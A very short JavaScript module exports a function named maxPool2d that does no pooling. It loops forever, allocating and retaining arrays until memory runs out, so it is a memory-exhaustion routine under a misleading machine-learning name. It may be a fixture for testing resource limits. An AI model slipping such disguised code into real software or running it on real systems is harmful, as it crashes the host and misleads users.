export function maxPool2d() {
  const kept = [];
  for (;;) kept.push(new Array(1000).fill(1.5));
}
